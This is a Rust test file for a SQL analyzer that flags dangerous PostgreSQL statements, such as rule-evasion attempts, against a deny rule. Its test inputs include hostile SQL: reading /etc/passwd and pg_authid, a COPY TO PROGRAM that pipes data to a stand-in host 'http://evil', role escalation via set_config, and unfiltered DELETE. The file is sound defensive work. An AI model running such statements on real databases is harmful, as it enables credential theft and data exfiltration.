//! Each case is one way a build task could try to slip a statement past a
//! rule; the analyzer must see through it.

use super::*;

fn one(sql: &str) -> StatementInfo {
    let a = analyze(sql);
    assert_eq!(a.unparsable, None, "{sql}");
    assert_eq!(a.statements.len(), 1, "{sql}: {a:?}");
    a.statements.into_iter().next().unwrap()
}

fn calls(sql: &str, f: &str) -> bool {
    one(sql).functions.iter().any(|x| x == f)
}

fn uses(sql: &str, r: &str) -> bool {
    one(sql).relations.iter().any(|x| x == r)
}

#[test]
fn functions_anywhere_in_a_query() {
    for sql in [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT 1 FROM t WHERE pg_read_file('x') IS NOT NULL",
        "WITH x AS (SELECT pg_read_file('x') AS v) SELECT v FROM x",
        "SELECT * FROM (SELECT pg_read_file('x')) s",
        "SELECT (SELECT pg_read_file('x'))",
        "SELECT upper(pg_read_file('x'))",
        "SELECT 1 UNION SELECT length(pg_read_file('x'))",
        "SELECT * FROM t ORDER BY pg_read_file('x')",
        "SELECT CASE WHEN true THEN pg_read_file('x') END",
        "INSERT INTO t VALUES (pg_read_file('x'))",
        "UPDATE t SET a = 1 WHERE id = 1 RETURNING pg_read_file('x')",
        "DELETE FROM t WHERE id = 1 RETURNING pg_read_file('x')",
        "CREATE TABLE t (a text DEFAULT pg_read_file('x'))",
        "SELECT pg_catalog.pg_read_file('x')",
        "SELECT \"pg_read_file\"('x')",
        "SELECT PG_READ_FILE('x')",
        "EXPLAIN ANALYZE SELECT pg_read_file('x')",
        "PREPARE p AS SELECT pg_read_file($1)",
        "COPY (SELECT pg_read_file('x')) TO STDOUT",
    ] {
        assert!(calls(sql, "pg_read_file"), "{sql}: {:?}", one(sql));
    }
    assert!(calls(
        "SELECT pg_catalog.pg_read_file('x')",
        "pg_catalog.pg_read_file"
    ));
}

#[test]
fn table_functions_and_call() {
    let s = one("SELECT * FROM pg_ls_dir('.')");
    assert!(s.functions.contains(&"pg_ls_dir".to_string()), "{s:?}");
    assert!(!s.relations.contains(&"pg_ls_dir".to_string()), "{s:?}");
    assert!(calls(
        "SELECT * FROM t, LATERAL dblink('x', 'y') AS r(a int)",
        "dblink"
    ));
    assert!(calls(
        "SELECT * FROM generate_series(1, 2) g, pg_catalog.pg_ls_dir('.')",
        "pg_ls_dir"
    ));
    let c = one("CALL myschema.do_things(1)");
    assert_eq!(c.kind, "call");
    assert!(
        c.functions.contains(&"myschema.do_things".to_string()),
        "{c:?}"
    );
    assert!(c.functions.contains(&"do_things".to_string()));
}

#[test]
fn relations_qualified_quoted_and_folded() {
    assert!(uses("SELECT * FROM public.users", "public.users"));
    assert!(uses("SELECT * FROM public.users", "users"));
    assert!(uses("SELECT * FROM PUBLIC.Users", "public.users"));
    // Quoted identifiers keep their case in PostgreSQL.
    let q = one("SELECT * FROM \"Public\".\"USERS\"");
    assert!(q.relations.contains(&"Public.USERS".to_string()), "{q:?}");
    // ...and rule globs are case-insensitive anyway.
    assert!(Glob::new("public.users").matches("Public.USERS"));
    assert!(uses(
        "SELECT * FROM a JOIN pg_authid p ON true",
        "pg_authid"
    ));
    assert!(uses(
        "SELECT (SELECT rolpassword FROM pg_authid LIMIT 1)",
        "pg_authid"
    ));
    assert!(uses(
        "WITH x AS (SELECT * FROM pg_catalog.pg_authid) SELECT 1",
        "pg_authid"
    ));
    assert!(uses("DROP TABLE app.secrets", "app.secrets"));
    assert!(uses("TRUNCATE app.secrets", "secrets"));
    assert!(uses("ALTER TABLE secrets ADD COLUMN x int", "secrets"));
    assert!(uses("CREATE TABLE x AS SELECT * FROM secrets", "secrets"));
    assert!(uses("CREATE TABLE x AS SELECT * FROM secrets", "x"));
    assert!(uses("COPY secrets TO STDOUT", "secrets"));
    assert!(uses(
        "INSERT INTO audit.log SELECT * FROM secrets",
        "audit.log"
    ));
}

#[test]
fn delete_and_update_without_where() {
    let d = one("DELETE FROM t");
    assert_eq!(d.kind, "delete");
    assert!(d.without_where);
    assert_eq!(d.unfiltered[0].relation, "t");
    assert!(!one("DELETE FROM t WHERE id = 1").without_where);
    assert!(one("UPDATE public.t SET a = 1").without_where);
    assert!(!one("UPDATE t SET a = 1 WHERE id = 2").without_where);
    assert!(!one("SELECT * FROM t").without_where);
}

#[test]
fn data_modifying_cte() {
    let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!(s.kind, "select");
    assert!(s.data_modifying_cte);
    assert!(s.without_where);
    assert!(s.with_clause);
    let i = one("WITH x AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM x");
    assert!(i.data_modifying_cte && !i.without_where);
    let plain = one("WITH x AS (SELECT 1) SELECT * FROM x");
    assert!(!plain.data_modifying_cte);
    // A WITH query has the kind of its body.
    assert_eq!(one("WITH x AS (SELECT 1) DELETE FROM t").kind, "delete");
}

#[test]
fn copy_program_and_server_files() {
    let p = one("COPY t TO PROGRAM 'curl -d @- http://evil'");
    assert_eq!(p.kind, "copy program");
    assert!(p.copy_program && !p.copy_server_file);
    let p = one("COPY t FROM PROGRAM 'id'");
    assert!(p.copy_program);
    let f = one("COPY t FROM '/etc/passwd'");
    assert_eq!(f.kind, "copy file");
    assert!(f.copy_server_file && !f.copy_program);
    let o = one("COPY t TO STDOUT");
    assert_eq!(o.kind, "copy");
    assert!(!o.copy_program && !o.copy_server_file);
    let i = one("COPY t FROM STDIN");
    assert!(!i.copy_program && !i.copy_server_file);
}

#[test]
fn kinds_of_dangerous_statements() {
    let a = analyze("DO $$ BEGIN PERFORM pg_read_file('x'); END $$");
    assert_eq!(a.statements.len(), 1);
    assert_eq!(a.statements[0].kind, "do");
    let p = one("PREPARE p AS DELETE FROM t");
    assert_eq!(p.kind, "prepare");
    assert_eq!(p.prepare_body_kind.as_deref(), Some("delete"));
    assert!(p.without_where);
    assert!(p.relations.contains(&"t".to_string()));
    assert_eq!(one("EXECUTE p").kind, "execute");
    assert_eq!(one("EXECUTE p(1, 'a')").kind, "execute");
    for (sql, kind) in [
        ("SET ROLE admin", "set role"),
        ("SET LOCAL ROLE admin", "set role"),
        ("SET SESSION ROLE admin", "set role"),
        ("SET role = 'admin'", "set role"),
        ("SET \"role\" TO admin", "set role"),
        (
            "SET SESSION AUTHORIZATION postgres",
            "set session authorization",
        ),
        (
            "SET session_authorization = 'postgres'",
            "set session authorization",
        ),
        ("SET search_path = public", "set"),
        (
            "ALTER SYSTEM SET archive_command = 'curl x'",
            "alter system",
        ),
        ("CREATE EXTENSION dblink", "create extension"),
        ("CREATE EXTENSION IF NOT EXISTS dblink", "create extension"),
        ("GRANT SELECT ON t TO public", "grant"),
        ("GRANT admin TO ci", "grant"),
        ("TRUNCATE t", "truncate"),
        ("TRUNCATE TABLE t", "truncate"),
        ("DROP TABLE t", "drop table"),
        (
            "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "create function",
        ),
        (
            "CREATE MATERIALIZED VIEW v AS SELECT 1",
            "create materialized view",
        ),
        ("CREATE TABLE data (a int)", "create table"),
        ("ALTER TABLE t ADD COLUMN x int", "alter table"),
        ("SELECT 1", "select"),
        ("(SELECT 1)", "select"),
        ("INSERT INTO t VALUES (1)", "insert"),
        ("VALUES (1)", "values"),
        ("BEGIN", "begin"),
        ("EXPLAIN SELECT 1", "explain"),
    ] {
        let a = analyze(sql);
        assert_eq!(a.statements.len(), 1, "{sql}: {a:?}");
        assert_eq!(a.statements[0].kind, kind, "{sql}: {a:?}");
    }
}

#[test]
fn multiple_statements_each_analyzed() {
    let a = analyze("SELECT 1; DROP TABLE t");
    assert_eq!(a.unparsable, None);
    let kinds: Vec<&str> = a.statements.iter().map(|s| s.kind.as_str()).collect();
    assert_eq!(kinds, ["select", "drop table"]);
    // One unparsable statement does not hide the others.
    let a = analyze("SELEC 1; DELETE FROM t;");
    assert!(a.unparsable.is_some());
    assert_eq!(a.statements.len(), 2);
    assert!(a.statements[0].error.is_some());
    assert!(a.statements[1].without_where);
    // Semicolons inside dollar quotes and strings do not split.
    let a = analyze(
        "SELECT ';'; CREATE FUNCTION f() RETURNS int AS $$ SELECT 1; SELECT 2 $$ LANGUAGE sql",
    );
    assert_eq!(a.statements.len(), 2, "{a:?}");
}

#[test]
fn unparsable_and_empty() {
    let a = analyze("SELEC 1");
    assert!(a.unparsable.is_some());
    assert_eq!(a.statements[0].kind, "selec");
    let a = analyze("SELECT 'unterminated");
    assert!(a.unparsable.is_some());
    assert_eq!(a.statements.len(), 1);
    for empty in ["", "   ", ";", " ; ;", "-- just a comment", "/* c */"] {
        let a = analyze(empty);
        assert_eq!(a, Analysis::default(), "{empty:?}");
    }
}

#[test]
fn huge_and_deeply_nested_input_does_not_crash() {
    // Deep nesting hits sqlparser's recursion limit: unparsable, no crash.
    let depth = 100_000;
    let nested = format!("SELECT {}1{}", "(".repeat(depth), ")".repeat(depth));
    assert!(analyze(&nested).unparsable.is_some());
    let nested_calls = format!("SELECT {}1{}", "f(".repeat(depth), ")".repeat(depth));
    assert!(analyze(&nested_calls).unparsable.is_some());
    let unary = format!("SELECT {}1", "- ".repeat(depth));
    assert!(analyze(&unary).unparsable.is_some());
    let not = format!("SELECT {}true", "NOT ".repeat(depth));
    assert!(analyze(&not).unparsable.is_some());
    // Long flat chains parse into deep left-leaning trees that overflow the
    // stack when dropped; they are refused before parsing.
    let chain = format!("SELECT 1{}", " + 1".repeat(250_000));
    let a = analyze(&chain);
    assert!(
        a.unparsable
            .as_deref()
            .is_some_and(|e| e.contains("too complex")),
        "{a:?}"
    );
    let casts = format!("SELECT 1{}", "::int".repeat(100_000));
    assert!(analyze(&casts).unparsable.is_some());
    let unions = format!("SELECT 1{}", " UNION SELECT 1".repeat(100_000));
    assert!(analyze(&unions).unparsable.is_some());
    let ors = format!("SELECT 1 FROM t WHERE a = 1{}", " OR a = 1".repeat(100_000));
    assert!(analyze(&ors).unparsable.is_some());
    // Realistic ORM output stays analyzable.
    let ors = format!("SELECT 1 FROM t WHERE a = 1{}", " OR a = 1".repeat(3_000));
    assert_eq!(analyze(&ors).unparsable, None);
    let in_list = format!("SELECT 1 FROM t WHERE a IN (0{})", ", 1".repeat(200_000));
    assert_eq!(analyze(&in_list).unparsable, None);
    let rows = format!(
        "INSERT INTO t VALUES (0, NULL){}",
        ", (1, 'x')".repeat(50_000)
    );
    assert_eq!(analyze(&rows).unparsable, None);
    // A 1 MB statement that parses.
    let big = format!("SELECT '{}', pg_read_file('x')", "a".repeat(1 << 20));
    assert!(calls(&big, "pg_read_file"));
}

#[test]
fn globs() {
    let g = |p: &str, t: &str| Glob::new(p).matches(t);
    assert!(g("dblink*", "dblink_exec"));
    assert!(g("dblink*", "dblink"));
    assert!(g("pg_*", "pg_read_file"));
    assert!(g("*.secrets", "public.secrets"));
    assert!(!g("*.secrets", "secrets"));
    assert!(g("PG_AUTHID", "pg_authid"));
    assert!(g("*", ""));
    assert!(g("a*b*c", "axxbyyc"));
    assert!(!g("a*b*c", "axxbyy"));
    assert!(!g("pg_read_file", "pg_read_file2"));
    assert!(!g("", "x"));
}

/// The example rule from DESIGN.md.
fn design_rule() -> SqlRule {
    let v = |xs: &[&str]| Some(xs.iter().map(|s| s.to_string()).collect());
    SqlRule::from_config(&SqlMatch {
        statements: v(&["drop", "truncate", "alter", "grant"]),
        functions: v(&["pg_read_file", "dblink*"]),
        relations: v(&["pg_authid"]),
        unparsable: Some(true),
        without_where: v(&["delete", "update"]),
        settings: None,
    })
}

#[test]
fn design_rule_matches_what_it_should() {
    let rule = design_rule();
    let hit = |sql: &str| rule.matches(&analyze(sql));
    for (sql, reason) in [
        ("DROP TABLE t", "DROP TABLE statement (rule lists \"drop\")"),
        (
            "ALTER SYSTEM SET x = 1",
            "ALTER SYSTEM statement (rule lists \"alter\")",
        ),
        ("TRUNCATE t", "TRUNCATE statement (rule lists \"truncate\")"),
        (
            "GRANT admin TO ci",
            "GRANT statement (rule lists \"grant\")",
        ),
        (
            "SELECT upper(pg_catalog.pg_read_file('x'))",
            "calls pg_read_file",
        ),
        ("SELECT * FROM dblink('h', 'q') AS r(a int)", "calls dblink"),
        ("SELECT dblink_exec('h', 'q')", "calls dblink_exec"),
        (
            "SELECT * FROM pg_catalog.PG_AUTHID",
            "uses relation pg_authid",
        ),
        (
            "DELETE FROM public.users",
            "DELETE without WHERE on public.users",
        ),
        (
            "WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT 1",
            "UPDATE without WHERE on t",
        ),
        ("PREPARE p AS DELETE FROM t", "DELETE without WHERE on t"),
    ] {
        let m = hit(sql).unwrap_or_else(|| panic!("{sql} should match"));
        assert_eq!(m.reason, reason, "{sql}");
        assert_eq!(m.statement_index, Some(0));
    }
    let m = hit("SELECT 1; DROP TABLE t").unwrap();
    assert_eq!(m.statement_index, Some(1));
    let m = hit("SELEC 1").unwrap();
    assert!(m.reason.starts_with("unparsable SQL: "), "{}", m.reason);
}

#[test]
fn design_rule_leaves_ordinary_work_alone() {
    let rule = design_rule();
    for sql in [
        "",
        "SELECT * FROM users WHERE id = 1",
        "DELETE FROM t WHERE id = 1",
        "UPDATE t SET a = 1 WHERE id = 1",
        "INSERT INTO t VALUES (1)",
        "CREATE TABLE t (a int)",
        "SELECT pg_read_file_not_really()",
        "SELECT 'pg_read_file'",
        "COPY t TO STDOUT",
        "SET search_path = public",
    ] {
        assert_eq!(rule.matches(&analyze(sql)), None, "{sql}");
    }
}

#[test]
fn statement_entries_match_at_word_boundaries() {
    let rule = |stmts: &[&str]| {
        SqlRule::from_config(&SqlMatch {
            statements: Some(stmts.iter().map(|s| s.to_string()).collect()),
            ..SqlMatch::default()
        })
    };
    let hit = |r: &SqlRule, sql: &str| r.matches(&analyze(sql)).is_some();
    assert!(hit(&rule(&["create extension"]), "CREATE EXTENSION dblink"));
    assert!(!hit(&rule(&["create extension"]), "CREATE TABLE t (a int)"));
    assert!(hit(&rule(&["copy program"]), "COPY t TO PROGRAM 'id'"));
    assert!(!hit(&rule(&["copy program"]), "COPY t TO STDOUT"));
    assert!(hit(&rule(&["copy"]), "COPY t TO PROGRAM 'id'"));
    assert!(hit(&rule(&["set role"]), "SET role = admin"));
    assert!(!hit(&rule(&["set role"]), "SET search_path = x"));
    assert!(hit(&rule(&["do"]), "DO $$ BEGIN END $$"));
    assert!(!hit(&rule(&["do"]), "DROP TABLE t"));
    assert!(hit(&rule(&["with"]), "WITH x AS (SELECT 1) SELECT 1"));
    assert!(hit(
        &rule(&["delete"]),
        "PREPARE p AS DELETE FROM t WHERE a = 1"
    ));
    assert!(!hit(&rule(&["drop"]), "SELECT 1; -- DROP TABLE t"));
}

#[test]
fn parsed_statements_line_up_with_the_analysis() {
    let (a, parsed) = analyze_parsed("SELECT 1; DO $$ BEGIN END $$; DELETE FROM t WHERE id = 1");
    assert_eq!(a.statements.len(), 3);
    assert_eq!(parsed.len(), 3);
    assert!(matches!(parsed[0], Some(Statement::Query(_))));
    assert!(parsed[1].is_none() && a.statements[1].error.is_some());
    assert!(matches!(parsed[2], Some(Statement::Delete(_))));
    assert_eq!(
        a,
        analyze("SELECT 1; DO $$ BEGIN END $$; DELETE FROM t WHERE id = 1")
    );
    let (a, parsed) = analyze_parsed("SELECT 'unterminated");
    assert_eq!((a.statements.len(), parsed.len()), (1, 1));
    assert!(parsed[0].is_none());
    let chain = format!("SELECT 1{}", " + 1".repeat(20_000));
    let (a, parsed) = analyze_parsed(&chain);
    assert!(a.unparsable.is_some());
    assert_eq!(parsed.len(), 1);
    assert!(parsed[0].is_none());
    assert_eq!(analyze_parsed("").1.len(), 0);
}

/// The role rule of policies/default.toml: role changes by name, through
/// SET or set_config, and set_config with a computed name; every other
/// setting (pg_dump's search_path, Django's TimeZone, an RLS tenant id) is
/// the job's own business.
#[test]
fn settings_are_decided_by_name_through_set_and_set_config() {
    let rule = SqlRule::from_config(&SqlMatch {
        settings: Some(vec!["role".into(), "session_authorization".into()]),
        ..SqlMatch::default()
    });
    for sql in [
        "SELECT set_config(name, 'admin', false) FROM pg_settings WHERE name = 'role'",
        "SELECT set_config('role', 'admin', false)",
        "SELECT pg_catalog.set_config('ROLE', 'admin', false)",
        "SELECT \"pg_catalog\".\"set_config\"('session_authorization', 'postgres', true)",
        "SELECT set_config($$role$$, 'admin', false)",
        "SELECT set_config(setting_name => 'role', new_value => 'admin', is_local => false)",
        "SELECT 1 FROM t WHERE set_config('role', 'admin', false) IS NOT NULL",
        "SET role = admin",
        "SET \"Role\" TO admin",
        "SET SESSION AUTHORIZATION postgres",
        "SET LOCAL ROLE admin",
    ] {
        let m = rule.matches(&analyze(sql));
        assert!(
            m.as_ref()
                .is_some_and(|m| m.reason.contains("role") || m.reason.contains("authorization")),
            "{sql}: {m:?}"
        );
    }
    // A name the analyzer cannot read could be any setting: denied.
    for sql in [
        "SELECT set_config(name, 'admin', false) FROM pg_settings",
        "SELECT set_config('ro' || 'le', 'admin', false)",
        "SELECT set_config(E'\\x72ole', 'admin', false)",
        "SELECT set_config('role'::text, 'admin', false)",
        "SELECT set_config((SELECT 'role'), 'admin', false)",
        // Not pinned by a top-level AND term of the call's own SELECT.
        "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'search_path' OR true",
        "SELECT set_config(name, 'x', false) FROM pg_settings WHERE NOT name = 'search_path'",
        "SELECT set_config(name, 'x', false) FROM pg_settings WHERE setting = 'search_path'",
        "SELECT upper(set_config(name, 'x', false)) FROM pg_settings WHERE name = 'search_path'",
        "SELECT (SELECT set_config(name, 'x', false)) FROM pg_settings WHERE name = 'search_path'",
        "SELECT * FROM (SELECT set_config(name, 'x', false) FROM pg_settings) s WHERE name = 'search_path'",
    ] {
        let m = rule.matches(&analyze(sql));
        assert!(
            m.as_ref()
                .is_some_and(|m| m.reason.contains("not a string literal")),
            "{sql}: {m:?}"
        );
    }
    for sql in [
        "SELECT pg_catalog.set_config('search_path', '', false)",
        "SELECT set_config('TimeZone', 'UTC', false)",
        "SELECT set_config('app.tenant_id', '42', true)",
        // pg_dump 15.8+ (CVE-2024-7348 fix).
        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
        "SELECT set_config(s.name, 'x', false) AS v FROM pg_settings s WHERE 'search_path' = s.name AND s.context = 'user'",
        "SET search_path = public",
        "SET TIME ZONE 'UTC'",
        "SET LOCAL app.tenant_id = '42'",
        "SET client_encoding TO 'UTF8'",
        "RESET ALL",
    ] {
        assert_eq!(rule.matches(&analyze(sql)), None, "{sql}");
    }
    let info = &analyze("SELECT set_config('App.Tenant_Id', '1', true)").statements[0];
    assert_eq!(info.settings, vec!["app.tenant_id".to_string()]);
}

#[test]
fn temporary_objects_are_not_schema_changes() {
    let rule = |stmts: &[&str]| {
        SqlRule::from_config(&SqlMatch {
            statements: Some(stmts.iter().map(|s| s.to_string()).collect()),
            ..SqlMatch::default()
        })
    };
    let hit = |r: &SqlRule, sql: &str| r.matches(&analyze(sql)).is_some();
    let ddl = rule(&["create", "alter", "drop"]);
    for sql in [
        "CREATE TEMP TABLE t (id int)",
        "CREATE TEMPORARY TABLE IF NOT EXISTS t (id int) ON COMMIT DROP",
        "CREATE LOCAL TEMPORARY TABLE t AS SELECT 1 AS a",
        "CREATE GLOBAL TEMP TABLE t (id int)",
        "CREATE TEMP VIEW v AS SELECT 1",
        "CREATE OR REPLACE TEMP VIEW v AS SELECT 1",
        "CREATE TEMP SEQUENCE s",
        "CREATE UNLOGGED TEMP TABLE t (a int)",
    ] {
        assert_eq!(
            analyze(sql).statements[0].kind.split(' ').nth(1),
            Some("temporary"),
            "{sql}"
        );
        assert!(!hit(&ddl, sql), "{sql}");
        assert!(hit(&rule(&["create temporary"]), sql), "{sql}");
    }
    for sql in [
        "CREATE TABLE t (id int)",
        "CREATE UNLOGGED TABLE t (id int)",
        "CREATE VIEW v AS SELECT 1",
        "CREATE TEMP FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
        "CREATE TABLE \"temp\" (id int)",
        "DROP TABLE tmp",
    ] {
        assert!(hit(&ddl, sql), "{sql}");
    }
}

/// pg_dump -t and psql \d write built-in operators as
/// `OPERATOR(pg_catalog.op)`; they are checked like the bare operator.
#[test]
fn pg_catalog_operators_are_read_as_the_bare_operator() {
    for sql in [
        "SELECT c.oid FROM pg_catalog.pg_class c WHERE c.relkind OPERATOR(pg_catalog.=) ANY (array['r', 'p'])",
        "SELECT 1 FROM pg_class c WHERE c.relname OPERATOR(pg_catalog.~) '^(users)$' COLLATE pg_catalog.default",
        "SELECT 1 WHERE 'a' OPERATOR( \"pg_catalog\" . ~~* ) 'A'",
        "SELECT 2 OPERATOR(pg_catalog.+) 3",
    ] {
        let a = analyze(sql);
        assert_eq!(a.unparsable, None, "{sql}");
        assert_eq!(a.statements[0].kind, "select", "{sql}");
    }
    let a = analyze("SELECT password FROM users WHERE id OPERATOR(pg_catalog.=) 1");
    assert_eq!(a.statements[0].relations, vec!["users".to_string()]);
    // Only pg_catalog's operators are unqualified: another schema's (which
    // may run any function) stays as written, where sqlparser can read it
    // only as a custom operator, never as the built-in.
    for sql in [
        "SELECT 1 WHERE 'a' OPERATOR(public.~) 'b'",
        "SELECT 1 WHERE 'a' OPERATOR(\"PG_CATALOG\".~) 'b'",
        "SELECT 1 WHERE 'a' OPERATOR(pg_catalog.) 'b'",
    ] {
        let tokens = tokenize_sql(sql).expect("tokens");
        let n = tokens.len();
        assert_eq!(unqualify_builtin_operators(tokens).len(), n, "{sql}");
    }
}

/// Statements sqlparser lacks, read as their exact equivalent.
#[test]
fn table_and_move_are_read_as_select_and_fetch() {
    let a = analyze("TABLE users");
    assert_eq!(a.unparsable, None);
    assert_eq!(a.statements[0].kind, "table");
    assert_eq!(a.statements[0].relations, vec!["users".to_string()]);
    let (_, parsed) = analyze_parsed("table public.users");
    assert!(matches!(parsed[0], Some(Statement::Query(_))));
    for sql in [
        "MOVE FORWARD 5 IN c",
        "MOVE ABSOLUTE 1 FROM c",
        "MOVE NEXT FROM c",
        "move backward all in \"my cursor\"",
    ] {
        let a = analyze(sql);
        assert_eq!(a.unparsable, None, "{sql}");
        assert_eq!(a.statements[0].kind, "move", "{sql}");
    }
    // A rule naming `table` or `select` sees it; `move` stays `move`.
    let rule = |stmts: &[&str]| {
        SqlRule::from_config(&SqlMatch {
            statements: Some(stmts.iter().map(|s| s.to_string()).collect()),
            ..SqlMatch::default()
        })
    };
    assert!(rule(&["table"]).matches(&analyze("TABLE users")).is_some());
    assert!(rule(&["select"]).matches(&analyze("TABLE users")).is_some());
    assert!(rule(&["move"])
        .matches(&analyze("MOVE NEXT FROM c"))
        .is_some());
    assert!(rule(&["fetch"])
        .matches(&analyze("MOVE NEXT FROM c"))
        .is_none());
    // A table named "table", or TABLE later in a statement, is untouched.
    assert_eq!(
        analyze("SELECT * FROM \"table\"").statements[0].kind,
        "select"
    );
}

/// Utility statements sqlparser lacks, read from their tokens: the kind,
/// and the relations they name, so rules see them.
#[test]
fn utility_statements_are_read_with_their_relations() {
    let cases: &[(&str, &str, &[&str])] = &[
        ("VACUUM", "vacuum", &[]),
        ("VACUUM ANALYZE t", "vacuum", &["t"]),
        ("VACUUM (ANALYZE) t", "vacuum", &["t"]),
        (
            "VACUUM (VERBOSE, PARALLEL 2, INDEX_CLEANUP off) s.t (a, b), u",
            "vacuum",
            &["s.t", "t", "u"],
        ),
        ("VACUUM FULL VERBOSE t", "vacuum full", &["t"]),
        ("vacuum (full) t", "vacuum full", &["t"]),
        ("VACUUM (FULL false) t", "vacuum", &["t"]),
        ("VACUUM FREEZE", "vacuum", &[]),
        ("ANALYZE", "analyze", &[]),
        ("ANALYZE VERBOSE t", "analyze", &["t"]),
        ("ANALYSE t (a)", "analyze", &["t"]),
        (
            "ANALYZE (SKIP_LOCKED) \"My Table\"",
            "analyze",
            &["My Table"],
        ),
        (
            "REINDEX TABLE CONCURRENTLY public.t",
            "reindex",
            &["public.t", "t"],
        ),
        ("REINDEX (VERBOSE) INDEX i", "reindex", &["i"]),
        ("REINDEX DATABASE", "reindex", &[]),
        ("CLUSTER", "cluster", &[]),
        ("CLUSTER VERBOSE t USING i", "cluster", &["i", "t"]),
        ("CLUSTER i ON t", "cluster", &["i", "t"]),
        ("CHECKPOINT", "checkpoint", &[]),
        ("SET CONSTRAINTS ALL IMMEDIATE", "set constraints", &[]),
        ("SET CONSTRAINTS c1, s.c2 DEFERRED", "set constraints", &[]),
        (
            "ALTER SEQUENCE s OWNED BY t.id",
            "alter sequence",
            &["s", "t"],
        ),
        (
            "ALTER SEQUENCE IF EXISTS public.s INCREMENT BY -2 MINVALUE -10 RESTART WITH 5",
            "alter sequence",
            &["public.s", "s"],
        ),
        ("ALTER SEQUENCE s OWNED BY NONE", "alter sequence", &["s"]),
        ("FETCH c", "fetch", &[]),
        ("FETCH FROM c", "fetch", &[]),
        ("FETCH BACKWARD IN c", "fetch", &[]),
        ("FETCH -1 FROM c", "fetch", &[]),
        ("MOVE FIRST c", "move", &[]),
    ];
    for (sql, kind, relations) in cases {
        let (a, parsed) = analyze_parsed(sql);
        assert_eq!(a.unparsable, None, "{sql}");
        assert_eq!(a.statements.len(), 1, "{sql}");
        assert_eq!(a.statements[0].kind, *kind, "{sql}");
        assert_eq!(a.statements[0].relations, *relations, "{sql}");
        assert_eq!(parsed.len(), 1, "{sql}");
    }
    // Anything outside their grammar stays unparsable: no function call,
    // subquery or stray token is taken on trust.
    for sql in [
        "VACUUM t; garbage",
        "VACUUM pg_read_file('/etc/passwd')",
        "VACUUM (ANALYZE) t WHERE 1 = 1",
        "ANALYZE t (a + 1)",
        "REINDEX TABLES t",
        "CLUSTER t USING",
        "SET CONSTRAINTS ALL",
        "ALTER SEQUENCE s RESTART WITH (SELECT 1)",
        "ALTER SEQUENCE s OWNED BY",
        "FETCH ABSOLUTE FROM c",
        "FETCH (SELECT 1)",
    ] {
        let a = analyze(sql);
        assert!(a.unparsable.is_some(), "{sql}: {a:?}");
    }
    // The rules see the kind and the relations.
    let rule = |m: SqlMatch| SqlRule::from_config(&m);
    let full = rule(SqlMatch {
        statements: Some(vec!["vacuum full".into()]),
        ..SqlMatch::default()
    });
    assert!(full.matches(&analyze("VACUUM (FULL) t")).is_some());
    assert!(full.matches(&analyze("VACUUM t")).is_none());
    let alter = rule(SqlMatch {
        statements: Some(vec!["alter".into()]),
        ..SqlMatch::default()
    });
    assert!(alter
        .matches(&analyze("ALTER SEQUENCE s OWNED BY t.id"))
        .is_some());
}

/// Options sqlparser spells differently, rewritten to its spelling.
#[test]
fn transaction_modes_and_copy_booleans_parse() {
    for sql in [
        "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE",
        "BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY, NOT DEFERRABLE",
        "START TRANSACTION READ ONLY DEFERRABLE",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE",
        "SET SESSION CHARACTERISTICS AS TRANSACTION DEFERRABLE",
        "COPY t FROM STDIN WITH (FREEZE ON)",
        "COPY t (a, b) FROM STDIN (FORMAT csv, HEADER on)",
        "COPY t TO STDOUT (HEADER OFF)",
    ] {
        let (a, parsed) = analyze_parsed(sql);
        assert_eq!(a.unparsable, None, "{sql}");
        assert!(parsed[0].is_some(), "{sql}");
    }
    // A query's ON inside COPY (...) is not an option, and COPY TO PROGRAM
    // is still seen.
    let a = analyze("COPY (SELECT 1 FROM a JOIN b ON a.id = b.id) TO STDOUT (HEADER ON)");
    assert_eq!(a.unparsable, None);
    assert_eq!(
        a.statements[0].relations,
        vec!["a".to_string(), "b".to_string()]
    );
    let a = analyze("COPY t TO PROGRAM 'id' (HEADER ON)");
    assert_eq!(a.statements[0].kind, "copy program");
    // DEFERRABLE elsewhere is not touched (a constraint's).
    let a = analyze("CREATE TABLE t (a int UNIQUE DEFERRABLE)");
    assert_eq!(a.statements[0].kind, "create table");
}
